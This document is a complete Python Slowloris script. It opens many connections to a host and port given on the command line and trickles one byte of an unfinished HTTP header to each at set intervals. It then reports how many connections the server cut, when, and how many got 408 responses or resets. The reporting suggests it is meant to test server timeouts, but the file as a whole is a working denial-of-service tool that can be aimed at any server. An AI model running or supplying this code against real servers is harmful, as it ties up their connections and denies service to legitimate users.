"""Slowloris: N connections to HOST:PORT, each sending one byte of a request head every
INTERVAL seconds (never finishing it). Prints `open N` once all are connected, then waits
until the server has cut every one (or LIMIT seconds pass) and prints one line:

    cut N of M, first A s, last B s, 408 K, reset R

(times from the moment the connection opened).

    python3 slowloris.py HOST PORT N INTERVAL LIMIT
"""

import resource
import select
import socket
import sys
import time

host, port, n, interval, limit = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, n + 100)), hard))

HEAD = b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\nX-a: " + b"b" * 10000
conns = {}
for i in range(n):
    s = socket.create_connection((host, port), timeout=10)
    s.setblocking(False)
    conns[s.fileno()] = {"sock": s, "opened": time.time(), "sent": 0, "next": time.time() + (i % 10) * interval / 10, "cut": None, "data": b"", "reset": False}
print("open", len(conns), flush=True)

start = time.time()
poller = select.poll()
for fd in conns:
    poller.register(fd, select.POLLIN)
live = set(conns)
while live and time.time() - start < limit:
    now = time.time()
    for fd in list(live):
        c = conns[fd]
        if now >= c["next"]:
            try:
                c["sock"].send(HEAD[c["sent"] : c["sent"] + 1])
                c["sent"] += 1
            except (BlockingIOError, BrokenPipeError, ConnectionResetError):
                pass
            c["next"] = now + interval
    for fd, _ in poller.poll(50):
        c = conns[fd]
        try:
            b = c["sock"].recv(65536)
        except BlockingIOError:
            continue
        except ConnectionResetError:
            b = b""
            c["reset"] = True
        if b:
            c["data"] += b
            continue
        c["cut"] = time.time() - c["opened"]
        poller.unregister(fd)
        live.discard(fd)
cut = [c for c in conns.values() if c["cut"] is not None]
times = sorted(c["cut"] for c in cut)
print(
    "cut %d of %d, first %.2f s, last %.2f s, 408 %d, reset %d, most bytes sent %d"
    % (
        len(cut),
        len(conns),
        times[0] if times else -1,
        times[-1] if times else -1,
        sum(1 for c in cut if c["data"].startswith(b"HTTP/1.1 408")),
        sum(1 for c in cut if c["reset"]),
        max(c["sent"] for c in conns.values()),
    ),
    flush=True,
)
for c in conns.values():
    c["sock"].close()
